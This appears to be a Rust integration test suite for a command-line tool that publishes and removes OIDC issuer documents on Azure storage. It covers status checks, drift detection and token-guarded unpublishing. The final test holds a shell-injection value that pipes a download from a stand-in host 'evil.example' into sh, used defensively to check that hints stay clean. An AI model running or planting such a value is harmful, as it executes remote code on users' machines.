//! Status of stored and public documents, and their guarded removal.

use std::{
    collections::BTreeSet,
    process::{Command, Output},
    sync::Mutex,
};

use crate::support::{
    answer::answer,
    azurite::{Account, account},
    encode,
    entra::unsigned,
    front::Front,
    http::{get, response},
    issuer::{command, stderr, stdout},
    proxy::{Fault, Proxy},
    recording,
};
use serde_json::{Value, json};
use tempfile::TempDir;

const ISSUER: &str = "https://issuer.example.com";

fn issuer(account: &Account) -> Command {
    let mut command = command();
    command.env("AZURE_STORAGE_CONNECTION_STRING", account.connection_string());
    command
}

fn publish(account: &Account, keys: &[u8]) {
    let folder = TempDir::new().unwrap();
    let file = folder.path().join("sa.pub");
    std::fs::write(&file, keys.iter().map(|number| encode::numbered_pem(*number)).collect::<String>()).unwrap();
    let output = issuer(account)
        .args(["publish", "--no-fetch-back", "--issuer", ISSUER, file.to_str().unwrap()])
        .output()
        .unwrap();
    assert!(output.status.success(), "{output:?}");
}

fn kid(number: u8) -> String {
    encode::key_id(&encode::numbered_spki(number))
}

fn status(account: &Account, front: &str, more: &[&str]) -> Output {
    issuer(account).args(["status", "--account", &account.name, "--published", front]).args(more).output().unwrap()
}

#[test]
fn status_shows_keys_times_website_and_equal_documents() {
    let account = account();
    let front = Front::start(&account);
    publish(&account, &[1, 2]);
    publish(&account, &[2]);
    let output = status(&account, &front.url(), &["-o", "json"]);
    assert_eq!(output.status.code(), Some(0), "{output:?}");
    let value = answer("status", &output);
    assert_eq!(value["issuer"], ISSUER);
    assert_eq!(value["stored"]["static_website"], "on");
    let keys = value["stored"]["keys"].as_array().unwrap();
    assert_eq!([&keys[0]["kid"], &keys[1]["kid"]], [&json!(kid(2)), &json!(kid(1))]);
    assert_eq!(keys[0]["type"], "RSA 2048");
    let time = |value: &Value| value.as_str().unwrap().parse::<issuer::Timestamp>().unwrap();
    assert!(keys[0]["retired_since"].is_null() && time(&keys[0]["published_since"]) <= time(&keys[1]["retired_since"]));
    let retained = time(&keys[1]["due"]).duration_since(time(&keys[1]["retired_since"]));
    assert_eq!(retained, issuer::Timestamp::UNIX_EPOCH.duration_since("1969-12-30T00:00:00Z".parse().unwrap()));
    assert_eq!(value["public"]["mismatch"], Value::Null);

    let text = stdout(&status(&account, &front.url(), &["--retain", "1h"]));
    assert!(text.contains("website  on\n") && text.contains("identical to the stored documents, 2 keys"), "{text}");
    assert!(text.contains(", retired 20") && text.contains("removable from"), "{text}");
}

#[test]
fn status_reports_public_documents_that_differ() {
    let account = account();
    let front = Front::start(&account);
    publish(&account, &[1]);
    let old = get(&front.address, "/openid/v1/jwks").body;
    publish(&account, &[1, 2]);
    let proxy = Proxy::start(&front.address, move |seen| {
        let old = response("200 OK", &["Content-Type: application/json"], &old);
        if seen.path.ends_with("jwks") { Fault::Answer(old) } else { Fault::Pass }
    });
    let output = status(&account, &format!("http://{}", proxy.address), &[]);
    assert_eq!(output.status.code(), Some(1));
    assert!(stdout(&output).contains("differs from the stored documents"), "{output:?}");
    assert!(stderr(&output).contains("AADSTS7000272") && stderr(&output).contains(&kid(2)), "{output:?}");
}

#[test]
fn status_reports_website_off_and_no_issuer() {
    let account = account();
    let front = Front::start(&account);
    let empty = status(&account, &front.url(), &[]);
    assert_eq!(empty.status.code(), Some(1));
    assert!(stderr(&empty).contains("no issuer is published at the root of $web"), "{empty:?}");
    publish(&account, &[1]);
    account.set_properties(
        r#"<?xml version="1.0"?><StorageServiceProperties><StaticWebsite><Enabled>false</Enabled></StaticWebsite></StorageServiceProperties>"#,
    );
    let off = status(&account, &front.url(), &[]);
    assert_eq!(off.status.code(), Some(1));
    assert!(stdout(&off).contains("website  off"), "{off:?}");
    assert!(stderr(&off).contains("the static website is off"), "{off:?}");
    assert!(stderr(&off).contains("returned status 404 with an HTML page; Entra will answer AADSTS90061"), "{off:?}");
}

#[test]
fn stored_content_encoding_is_drift_and_publish_removes_it() {
    let account = account();
    let front = Front::start(&account);
    publish(&account, &[1]);
    let folder = TempDir::new().unwrap();
    let keys = folder.path().join("sa.pub");
    std::fs::write(&keys, encode::numbered_pem(1)).unwrap();
    let publish = |more: &[&str]| {
        let args = ["publish", keys.to_str().unwrap(), "--issuer", ISSUER, "--published", &front.url(), "--wait", "0s"];
        issuer(&account).args(args).args(more).output().unwrap()
    };
    assert_eq!(publish(&["--check"]).status.code(), Some(0));
    for (path, document, code) in [
        ("/$web/openid/v1/jwks", "JWKS", "AADSTS900612"),
        ("/$web/.well-known/openid-configuration", "discovery document", "AADSTS501661"),
    ] {
        let properties = [
            ("x-ms-blob-content-encoding", "gzip"),
            ("x-ms-blob-content-type", "application/json"),
            ("x-ms-blob-cache-control", "public, max-age=300"),
        ];
        assert_eq!(account.call("PUT", path, "comp=properties", &properties, b"").status(), 200);
        let check = publish(&["--check"]);
        assert_eq!(check.status.code(), Some(1), "{check:?}");
        let named = format!("the published {document} has the Content-Encoding \"gzip\"");
        assert!(stderr(&check).contains(&named), "{check:?}");
        let seen = status(&account, &front.url(), &[]);
        assert_eq!(seen.status.code(), Some(1), "{seen:?}");
        let named = format!("the {document} has the Content-Encoding \"gzip\"");
        assert!(stderr(&seen).contains(&named) && stderr(&seen).contains(code), "{seen:?}");

        let published = publish(&[]);
        assert_eq!(published.status.code(), Some(0), "{published:?}");
        let blob = account.get_blob("$web", path.strip_prefix("/$web/").unwrap()).unwrap();
        assert!(blob.header("content-encoding").unwrap_or_default().is_empty(), "{blob:?}");
        assert_eq!(publish(&["--check"]).status.code(), Some(0));
        assert_eq!(status(&account, &front.url(), &[]).status.code(), Some(0));
    }
}

#[test]
fn private_issuer_from_a_stored_document_gets_no_request() {
    let account = account();
    let front = Front::start(&account);
    let keys = recording("rotation").path("sa.pub");
    let publish = |more: &[&str]| {
        issuer(&account)
            .args(["publish", keys.to_str().unwrap(), "--for", "oidc", "--wait", "0s"])
            .args(more)
            .output()
            .unwrap()
    };
    let output = publish(&["--issuer", &front.url()]);
    assert_eq!(output.status.code(), Some(0), "{output:?}");
    let requests = front.requests();
    assert!(!requests.is_empty());
    let status = ["status", "--account", &account.name, "--for", "oidc"];
    for output in [publish(&[]), publish(&["--check"]), issuer(&account).args(status).output().unwrap()] {
        assert_eq!(output.status.code(), Some(1), "{output:?}");
        assert!(stderr(&output).contains("because its host is a loopback address"), "{output:?}");
        assert!(stderr(&output).contains("hint: pass --issuer URL"), "{output:?}");
    }
    assert_eq!(front.requests(), requests);
    let named = issuer(&account).args(status).args(["--issuer", &front.url()]).output().unwrap();
    assert_eq!(named.status.code(), Some(0), "{named:?}");
}

#[test]
fn status_without_a_site_shows_the_public_documents() {
    let account = account();
    let front = Front::start(&account);
    publish(&account, &[1, 2]);
    let output = command().args(["status", ISSUER, "--published", &front.url(), "-o", "json"]).output().unwrap();
    assert_eq!(output.status.code(), Some(0), "{output:?}");
    assert_eq!(answer("status", &output)["stored"], Value::Null);
    assert_eq!(answer("status", &output)["public"]["keys"][1]["kid"], kid(2));
    // The variables for the storage account have the same effect with and without an issuer.
    for args in [&["status", ISSUER][..], &["status", "--issuer", ISSUER], &["status"]] {
        let output = issuer(&account).args(args).args(["--published", &front.url(), "-o", "json"]).output().unwrap();
        assert_eq!(output.status.code(), Some(0), "{output:?}");
        let value = answer("status", &output);
        assert_eq!(value["stored"]["keys"][1]["kid"], kid(2), "{args:?}");
        assert_eq!(value["public"]["keys"][1]["kid"], kid(2), "{args:?}");
    }
    let other =
        command().args(["status", "https://issuer.example.com/", "--published", &front.url()]).output().unwrap();
    assert_eq!(other.status.code(), Some(1));
    assert!(stderr(&other).contains("AADSTS700211"), "{other:?}");
}

#[test]
fn status_of_a_directory_compares_both_sides() {
    let site = TempDir::new().unwrap();
    let directory = site.path().to_str().unwrap();
    let keys = recording("rotation").path("sa.pub");
    let publish =
        command().args(["publish", keys.to_str().unwrap(), "--issuer", ISSUER, "--directory", directory]).output();
    assert!(publish.unwrap().status.success());
    let output = command().args(["status", "--directory", directory, "--published", directory]).output().unwrap();
    assert_eq!(output.status.code(), Some(0), "{output:?}");
    assert!(stdout(&output).contains("identical to the stored documents, 2 keys"), "{output:?}");
    let output = command().args(["status", "--directory", directory]).output().unwrap();
    assert!(output.status.success() && stdout(&output).contains("not read; pass --published"), "{output:?}");
}

/// A cluster with its own published key.
struct Cluster {
    folder: TempDir,
    key: rcgen::KeyPair,
}

impl Cluster {
    fn new() -> Self {
        let (folder, key) = (TempDir::new().unwrap(), rcgen::KeyPair::generate_for(&rcgen::PKCS_RSA_SHA256).unwrap());
        std::fs::write(folder.path().join("sa.pub"), key.public_key_pem()).unwrap();
        Self { folder, key }
    }

    fn publish(&self, account: &Account) {
        let keys = self.folder.path().join("sa.pub");
        let args = ["publish", "--no-fetch-back", "--issuer", ISSUER, keys.to_str().unwrap()];
        let output = issuer(account).args(args).output().unwrap();
        assert!(output.status.success(), "{output:?}");
    }

    /// A token that the cluster issued some seconds ago, with this issuer and lifetime in seconds.
    fn token(&self, issuer: &str, ago: i64, life: i64) -> String {
        let issued = issuer::Timestamp::now().as_second() - ago;
        let claims = json!({ "iss": issuer, "aud": ["a"], "sub": "system:serviceaccount:a:b", "iat": issued, "exp": issued + life });
        let header = jsonwebtoken::Header {
            typ: None,
            kid: Some(encode::key_id(pem::parse(self.key.public_key_pem()).unwrap().contents())),
            ..jsonwebtoken::Header::new(jsonwebtoken::Algorithm::RS256)
        };
        let key = jsonwebtoken::EncodingKey::from_rsa_der(&encode::inside_pkcs8(&self.key.serialize_der()));
        let path = self.folder.path().join("token.jwt");
        std::fs::write(&path, jsonwebtoken::encode(&header, &claims, &key).unwrap()).unwrap();
        path.to_str().unwrap().to_owned()
    }
}

#[test]
fn unpublish_requires_a_fresh_token_of_another_issuer() {
    let account = account();
    let (cluster, other_cluster) = (Cluster::new(), Cluster::new());
    cluster.publish(&account);
    let unpublish =
        |args: &[&str]| issuer(&account).args(["unpublish", "--account", &account.name]).args(args).output().unwrap();
    let refused = |token: &str, sentence: &str| {
        let output = unpublish(&["--token", token]);
        assert_eq!(output.status.code(), Some(1), "{output:?}");
        assert!(stderr(&output).contains(sentence) && stderr(&output).contains("; nothing was removed"), "{output:?}");
        assert_eq!(account.list_blobs("$web").len(), 2);
    };
    refused(&cluster.token(ISSUER, 0, 600), "still name the issuer \"https://issuer.example.com\"");
    for same_place in ["https://issuer.example.com/", "https://ISSUER.example.com", "https://issuer.example.com.:443/"]
    {
        refused(
            &cluster.token(same_place, 0, 600),
            &format!("name the issuer {same_place:?}, which has the same documents"),
        );
    }
    let other = "https://other.example.com";
    refused(&cluster.token(other, 700, 600), "the token expired at");
    refused(&cluster.token(other, 3700, 31_536_000), "more than an hour ago");
    refused(&cluster.token(other, -120, 600), "which is in the future");
    refused(&other_cluster.token(other, 0, 600), "no published key verifies the token");
    let (forged, issued) = (cluster.folder.path().join("forged.jwt"), issuer::Timestamp::now().as_second());
    std::fs::write(&forged, unsigned(&json!({ "iss": other, "iat": issued, "exp": issued + 600 }))).unwrap();
    refused(forged.to_str().unwrap(), "no published key verifies the token");
    let usage = unpublish(&[]);
    assert_eq!(usage.status.code(), Some(2), "neither a token nor --force: {usage:?}");

    let proxy = Proxy::start(account.address(), |_| Fault::Pass);
    let output = issuer(&account.through(&proxy.address))
        .args(["unpublish", "--token", &cluster.token(other, 0, 600), "-o", "json"])
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(0), "{output:?}");
    assert_eq!(answer("unpublish", &output)["removed"], json!([".well-known/openid-configuration", "openid/v1/jwks"]));
    let deleted = proxy.exchanges().into_iter().filter(|exchange| exchange.seen.method == "DELETE");
    let deleted: Vec<_> = deleted.map(|exchange| exchange.seen.path).collect();
    assert!(deleted[0].ends_with("openid-configuration") && deleted[1].ends_with("jwks"), "{deleted:?}");
    assert!(account.list_blobs("$web").is_empty());
    for args in [&["--force", "--issuer", ISSUER][..], &["--force"]] {
        let again = unpublish(args);
        assert!(again.status.success() && stdout(&again).contains("nothing was published there"), "{again:?}");
    }
}

#[test]
fn forced_unpublish_keeps_documents_of_another_issuer() {
    let account = account();
    publish(&account, &[1]);
    let other =
        issuer(&account).args(["unpublish", "--force", "--issuer", "https://issuer.example.com/"]).output().unwrap();
    assert_eq!(other.status.code(), Some(1));
    assert!(
        stderr(&other).contains("the stored documents are those of the issuer \"https://issuer.example.com\""),
        "{other:?}"
    );
    let output = issuer(&account).args(["unpublish", "--force"]).output().unwrap();
    assert!(output.status.success(), "{output:?}");
    assert!(account.list_blobs("$web").is_empty());
}

#[test]
fn unpublish_removes_snapshots_only_with_the_flag() {
    let account = account();
    publish(&account, &[1]);
    let snapshot = account.call("PUT", "/$web/openid/v1/jwks", "comp=snapshot", &[], b"");
    assert_eq!(snapshot.status(), 201, "{snapshot:?}");
    let output = issuer(&account).args(["unpublish", "--force"]).output().unwrap();
    assert_eq!(output.status.code(), Some(3), "{output:?}");
    let said = stderr(&output);
    assert!(said.contains("the blob has snapshots, and Azure does not remove a blob without its snapshots"), "{said}");
    assert!(said.contains("SnapshotsPresent"), "{said}");
    assert!(said.contains("hint: pass --delete-snapshots"), "{said}");
    let output = issuer(&account).args(["unpublish", "--force", "--delete-snapshots"]).output().unwrap();
    assert!(output.status.success(), "{output:?}");
    assert!(account.list_blobs("$web").is_empty());
}

#[test]
fn interrupted_unpublish_is_finished_by_the_next() {
    let account = account();
    publish(&account, &[1]);
    let dropped = Mutex::new(BTreeSet::new());
    let proxy = Proxy::start(account.address(), move |seen| {
        let first = seen.method == "DELETE" && dropped.lock().unwrap().insert(seen.path.clone());
        if first { Fault::DropAnswer } else { Fault::Pass }
    });
    let through = account.through(&proxy.address);
    let output = issuer(&through).args(["unpublish", "--force", "-o", "json"]).output().unwrap();
    assert!(output.status.success(), "{output:?}");
    // Every deletion took effect without an answer. The command still reports what was removed.
    assert_eq!(answer("unpublish", &output)["removed"], json!([".well-known/openid-configuration", "openid/v1/jwks"]));
    assert!(account.list_blobs("$web").is_empty());

    // The issuer is in the record of the JWKS, so the same command completes the removal.
    publish(&account, &[1]);
    assert!(account.delete_blob("$web", ".well-known/openid-configuration"));
    let output = issuer(&account).args(["unpublish", "--force"]).output().unwrap();
    assert!(output.status.success() && account.list_blobs("$web").is_empty(), "{output:?}");
}

/// Documents of other tools are compared by their content, not by their white space.
#[test]
fn status_compares_foreign_documents_by_content() {
    let run = recording("rotation");
    let site = TempDir::new().unwrap();
    let directory = site.path().to_str().unwrap();
    let write = |path: &str, args: &[&str]| {
        let file = site.path().join(path);
        std::fs::create_dir_all(file.parent().unwrap()).unwrap();
        let output = command().args(args).arg(run.path("sa.pub")).output().unwrap();
        std::fs::write(file, output.stdout).unwrap();
    };
    write(".well-known/openid-configuration", &["discovery", "--issuer", ISSUER]);
    write("openid/v1/jwks", &["jwks"]);
    let status = || command().args(["status", "--directory", directory, "--published", directory]).output().unwrap();
    let output = status();
    assert_eq!(output.status.code(), Some(0), "{output:?}");
    assert!(stdout(&output).contains("published by another tool"), "{output:?}");

    // A discovery document with another `jwks_uri` does not describe the JWKS at the default path.
    for (jwks_uri, code, sentence) in [
        ("https://issuer.example.com/keys.json", 1, "the JWKS does not exist"),
        ("https://keys.example.com/jwks", 1, "the jwks_uri \"https://keys.example.com/jwks\" is not below the issuer"),
    ] {
        write(".well-known/openid-configuration", &["discovery", "--issuer", ISSUER, "--jwks-uri", jwks_uri]);
        let output = status();
        assert_eq!(output.status.code(), Some(code), "{output:?}");
        assert!(stderr(&output).contains(sentence), "{output:?}");
    }
}

#[test]
fn documents_of_an_unknown_issuer_are_reported_and_kept() {
    for discovery in [
        "garbage",
        r#"{"issuer":"https://cdn.example.com/clusters/a","jwks_uri":"https://cdn.example.com/clusters/a/openid/v1/jwks"}"#,
    ] {
        let account = account();
        account.create_container("$web");
        account.put_blob("$web", ".well-known/openid-configuration", discovery.as_bytes(), &[]);
        for command in [&["unpublish", "--force"][..], &["status", "--account", &account.name]] {
            let output = issuer(&account).args(command).output().unwrap();
            assert_eq!(output.status.code(), Some(1), "{output:?}");
            assert!(stderr(&output).contains("do not name an issuer that is published there"), "{output:?}");
        }
        assert_eq!(account.list_blobs("$web").len(), 1);
    }
}

#[test]
fn unpublish_removes_documents_and_record_of_a_directory() {
    let site = TempDir::new().unwrap();
    let directory = site.path().to_str().unwrap();
    let keys = recording("rotation").path("sa.pub");
    let publish =
        command().args(["publish", keys.to_str().unwrap(), "--issuer", ISSUER, "--directory", directory]).output();
    assert!(publish.unwrap().status.success());
    let output = command().args(["unpublish", "--force", "--directory", directory]).output().unwrap();
    assert!(output.status.success(), "{output:?}");
    for folder in [".well-known", "openid/v1"] {
        assert_eq!(std::fs::read_dir(site.path().join(folder)).unwrap().count(), 0);
    }
}

/// A writer of the document must not control a command that a user copies (shell injection).
#[test]
fn stored_issuer_never_becomes_a_shell_command_to_copy() {
    let site = TempDir::new().unwrap();
    let keys = recording("rotation").path("sa.pub").to_str().unwrap().to_owned();
    let directory = site.path().to_str().unwrap();
    let publish = command().args(["publish", &keys, "--issuer", ISSUER, "--directory", directory]).output().unwrap();
    assert!(publish.status.success(), "{publish:?}");
    let document = site.path().join(".well-known/openid-configuration");
    let text = std::fs::read_to_string(&document).unwrap();
    for (issuer, shown) in [
        ("https://issuer.example.com;curl$IFS-s${IFS}evil.example|sh", "--issuer URL;"),
        ("https://other.example.com/a", "--issuer https://other.example.com/a;"),
    ] {
        let changed = text.replace(&format!("\"issuer\":\"{ISSUER}\""), &format!("\"issuer\":\"{issuer}\""));
        std::fs::write(&document, changed).unwrap();
        let output = command().args(["status", "--directory", directory, "--issuer", ISSUER]).output().unwrap();
        assert_eq!(output.status.code(), Some(1));
        let told = stderr(&output);
        let hint = told.lines().find(|line| line.starts_with("hint: ")).unwrap_or_else(|| panic!("{told}"));
        assert!(hint.contains(shown) && !hint.contains("curl"), "{told}");
    }
}
